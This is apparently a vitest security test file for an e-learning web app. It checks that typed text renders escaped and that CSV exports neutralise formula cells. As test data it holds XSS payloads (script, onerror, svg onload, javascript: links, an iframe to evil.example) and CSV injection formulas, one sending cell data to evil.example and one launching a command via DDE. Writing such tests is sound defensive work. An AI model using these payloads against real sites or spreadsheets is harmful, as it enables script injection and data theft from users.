import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import Papa from "papaparse";
import { asc, eq, max } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  blogArticles,
  careerApplications,
  contactSubmissions,
  contentBlocks,
  courses,
  institutionEnquiries,
  lessons,
  modules,
} from "@server/db/schema";
import { seedAll } from "@server/db/seed/seed";
import { signInAdmin } from "../../../tests/support/admin";
import { pdfFile } from "../../../tests/support/document-fixtures";
import { httpSession } from "../../../tests/support/http-session";
import { signUpLearner, type Learner } from "../../../tests/support/learner";
import { multipart } from "../../../tests/support/multipart";
import { startTestApp, type TestApp } from "../../../tests/support/test-app";

// Script where text belongs (ASVS 5.3): whatever people type (notes, names, messages, CPD
// entries) and whatever the back office writes (articles, lesson markdown) is shown as text on
// every page that shows it, and a spreadsheet opening a CSV export runs none of it as a formula.
let subject: TestApp;
let admin: Learner;
let learner: Learner;
let lessonPath: string;

/** Each carries its own marker, so a page showing one is told apart from another. */
const payload = (marker: string) =>
  `${marker} <img src=x onerror=alert(1)></script><script>alert(1)</script><svg onload=alert(1)>`;
const rawMarkup = ["<img src=x", "<script>alert(", "<svg onload"];

beforeAll(async () => {
  subject = await startTestApp();
  const { db } = subject.database;
  await seedAll(db);
  admin = await signInAdmin(subject, "xss-admin@example.org");
  learner = await signUpLearner(subject, "xss-learner@example.org", {
    tier: "premium",
    name: "Mallory Tables",
  });
  // A lesson block as the back office stores it (its editor is tested in lesson-editor.test.ts).
  const [lesson] = await db
    .select({ id: lessons.id, slug: lessons.slug, course: courses.slug })
    .from(lessons)
    .innerJoin(modules, eq(modules.id, lessons.moduleId))
    .innerJoin(courses, eq(courses.id, modules.courseId))
    .where(eq(courses.slug, "demo-iv-cannulation"))
    .orderBy(asc(modules.orderNumber), asc(lessons.orderNumber))
    .limit(1);
  const [last] = await db
    .select({ order: max(contentBlocks.orderNumber) })
    .from(contentBlocks)
    .where(eq(contentBlocks.lessonId, lesson!.id));
  await db.insert(contentBlocks).values({
    lessonId: lesson!.id,
    orderNumber: (last?.order ?? 0) + 1,
    type: "markdown",
    content: {
      text: `${payload("lesson-md")}\n\n[click](javascript:alert(1)) ![x](javascript:alert(2)) <iframe src="https://evil.example"></iframe>`,
    },
  });
  lessonPath = `/course/${lesson!.course}/start/${lesson!.slug}`;
});
afterAll(async () => {
  await subject?.close();
});

/** The page shows `marker`'s payload as text: escaped, with none of its markup live. */
function expectInert(html: string, marker: string, where: string) {
  for (const markup of rawMarkup) expect(html, `${where}: ${markup}`).not.toContain(markup);
  expect(html, where).not.toMatch(/\s(href|src|action|formaction)\s*=\s*["']?\s*javascript:/i);
  expect(html, where).not.toMatch(/<iframe/i);
  // React marks where one text node ends and the next begins with an empty comment.
  const shown = html.replaceAll("<!-- -->", "");
  expect(shown, `${where} shows ${marker}`).toContain(`${marker} &lt;img src=x onerror=alert(`);
}

describe("hostile text", () => {
  it("in a note, a CPD entry and a reflection: text on the learner's pages", async () => {
    const note = await learner.postForm(lessonPath, {
      intent: "note-create",
      content: payload("note"),
    });
    expect(note.status).toBe(200);
    const entry = await learner.postForm("/account/learning-record", {
      intent: "external-create",
      title: payload("cpd-title"),
      activityType: "Other",
      activityDate: "2026-03-01",
      hours: "1",
      covered: payload("cpd-covered"),
      whatLearned: payload("cpd-learned"),
      practiceChange: "",
      standards: "",
    });
    expect(entry.status).toBe(303);
    expectInert(
      await (await learner.request(`${lessonPath}?tab=notes`)).text(),
      "note",
      "the lesson player's notes",
    );
    const record = await (await learner.request("/account/learning-record")).text();
    for (const marker of ["cpd-title", "cpd-covered", "cpd-learned"]) {
      expectInert(record, marker, "the learning record");
    }
  });

  it("in lesson markdown from the back office: text, and no script address in a link", async () => {
    expectInert(await (await learner.request(lessonPath)).text(), "lesson-md", "a lesson");
  });

  it("in a person's name: text in the header and the back office's members", async () => {
    const named = await signUpLearner(subject, "xss-name@example.org", {
      tier: "standard",
      name: `Eve ${payload("name")}`, // the last name: all of it after the first space
    });
    const dashboard = await (await named.request("/dashboard")).text();
    expectInert(dashboard, "name", "the signed-in header");
    expectInert(await (await admin.request("/admin/members")).text(), "name", "members");
    expectInert(
      await (await admin.request(`/admin/members/${named.userId}`)).text(),
      "name",
      "a member",
    );
  });

  it("in an institution typed on a profile: text in the back office's queue of names", async () => {
    const typist = await signUpLearner(subject, "xss-institution@example.org");
    const saved = await typist.postForm("/account", {
      intent: "profile",
      firstName: "Ivo",
      lastName: "Marsh",
      professionalRegType: "nurse",
      regNo: "NMC-12A3456",
      institution: payload("institution"),
    });
    expect(saved.status).toBe(302);
    expectInert(
      await (await admin.request("/admin/institution-names")).text(),
      "institution",
      "the institution names queue",
    );
  });

  it("in a contact message, an enquiry and a cover letter: text in the back office's inbox", async () => {
    const visitor = httpSession(subject);
    const contact = await visitor.postForm("/contact", {
      firstName: "Ivy",
      lastName: "Inject",
      email: "ivy@example.org",
      phoneNumber: "",
      message: payload("contact"),
    });
    expect(contact.status).toBe(302);
    const enquiry = await visitor.postForm("/pricing", {
      firstName: "Ivy",
      lastName: "Inject",
      workEmail: "ivy@trust.example",
      phone: "0113 496 0000",
      numberOfUsers: "",
      others: payload("enquiry-others"),
      message: payload("enquiry"),
    });
    expect(enquiry.status).toBeLessThan(400);
    const application = await visitor.request(
      "/careers",
      await multipart({
        firstName: "Ivy",
        lastName: "Inject",
        coverLetter: payload("cover"),
        resume: { name: "cv.pdf", bytes: pdfFile() },
      }),
    );
    expect(application.status).toBe(302);
    const { db } = subject.database;
    const [message] = await db.select().from(contactSubmissions);
    const [enquiryRow] = await db.select().from(institutionEnquiries);
    const [applicationRow] = await db.select().from(careerApplications);
    const views: [string, string, string][] = [
      ["/admin/inbox/messages", "contact", "messages"],
      [`/admin/inbox/messages/${message!.id}`, "contact", "a message"],
      [`/admin/inbox/enquiries/${enquiryRow!.id}`, "enquiry", "an enquiry"],
      [`/admin/inbox/enquiries/${enquiryRow!.id}`, "enquiry-others", "an enquiry"],
      [`/admin/inbox/applications/${applicationRow!.id}`, "cover", "an application"],
    ];
    for (const [path, marker, where] of views) {
      const response = await admin.request(path);
      expect(response.status, path).toBe(200);
      expectInert(await response.text(), marker, where);
    }
  });

  it("in an article from the back office: text on the blog, escaped in the feed", async () => {
    const form = new FormData();
    const fields = {
      intent: "save",
      title: payload("article-title"),
      slug: "hostile-article",
      category: "News <img src=x onerror=alert(1)>",
      excerpt: payload("article-excerpt"),
      content: `${payload("article-body")}\n\nSecond paragraph.`,
      author: payload("article-author"),
      publishDate: "2026-01-01",
      readTime: "4",
      imageAlt: "",
    };
    for (const [name, value] of Object.entries(fields)) form.append(name, value);
    const saved = await admin.request("/admin/articles/new", { method: "POST", body: form });
    expect(saved.status).toBeLessThan(400);
    const [article] = await subject.database.db
      .select()
      .from(blogArticles)
      .where(eq(blogArticles.slug, "hostile-article"));
    expect(article).toBeDefined();
    const visitor = httpSession(subject);
    const page = await (await visitor.request("/blog/hostile-article")).text();
    for (const marker of ["article-title", "article-body", "article-author"]) {
      expectInert(page, marker, "the article");
    }
    expectInert(await (await visitor.request("/blog")).text(), "article-excerpt", "the blog");
    const feed = await (await visitor.request("/blog/rss.xml")).text();
    for (const markup of rawMarkup) expect(feed).not.toContain(markup);
  });
});

describe("CSV exports", () => {
  const formulas = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "=1+1",
  ];

  it("neutralise every cell a spreadsheet would run as a formula", async () => {
    const spreadsheet = await signUpLearner(subject, "csv@example.org", { tier: "premium" });
    for (const [index, formula] of formulas.entries()) {
      const added = await spreadsheet.postForm("/account/learning-record", {
        intent: "external-create",
        title: formula,
        activityType: "Other",
        activityDate: `2026-04-0${index + 1}`,
        hours: "1",
        covered: formula,
        whatLearned: formula,
        practiceChange: formula,
        standards: formula,
      });
      expect(added.status).toBe(303);
    }
    // A tab or a line break before a formula: the form trims it, and the cell is still text. (A
    // carriage return on its own is refused: hostile-text-control-characters.test.ts.)
    for (const [index, formula] of ["\t=1+1", "\r\n@SUM(1,2)"].entries()) {
      const added = await spreadsheet.postForm("/account/learning-record", {
        intent: "external-create",
        title: formula,
        activityType: "Other",
        activityDate: `2026-05-0${index + 1}`,
        hours: "1",
        covered: formula,
        whatLearned: "",
        practiceChange: "",
        standards: formula,
      });
      expect(added.status).toBe(303);
    }
    const response = await spreadsheet.request("/account/learning-record.csv");
    expect(response.headers.get("content-type")).toContain("text/csv");
    const rows = Papa.parse<string[]>((await response.text()).replace(/^\uFEFF/, "")).data;
    const cells = rows.flat();
    // Each formula is there, as text a spreadsheet shows rather than runs.
    for (const formula of formulas) expect(cells).toContain(`'${formula}`);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it("are all of the app's CSV answers: each is in the test above or named below", () => {
    const producers = (dir: string): string[] =>
      readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
        const path = join(dir, entry.name);
        if (entry.isDirectory()) return producers(path);
        if (!/\.tsx?$/.test(entry.name) || /\.test\.tsx?$/.test(entry.name)) return [];
        // An answer's type, not a file input that accepts CSV (the manager's upload form).
        return /content-type["']?\s*[:,]\s*["']text\/csv/i.test(readFileSync(path, "utf8"))
          ? [path]
          : [];
      });
    // The manager's progress exports are checked the same way, through their routes, in
    // app/routes/manage/cohort-routes.test.ts (learners' names starting =, +, - and @).
    // The audit logs' exports (manager area and back office): app/routes/manage/audit.test.ts and
    // app/routes/admin/audit-log.test.ts; the kept training records': app/routes/manage/records.test.ts.
    expect([...producers("app"), ...producers("server")].sort()).toEqual([
      "server/audit/audit-csv.ts",
      "server/institutions/cohorts/progress-csv-response.ts",
      "server/institutions/records/training-records-csv.ts",
      "server/learning/record/learning-record-page.ts",
    ]);
  });
});
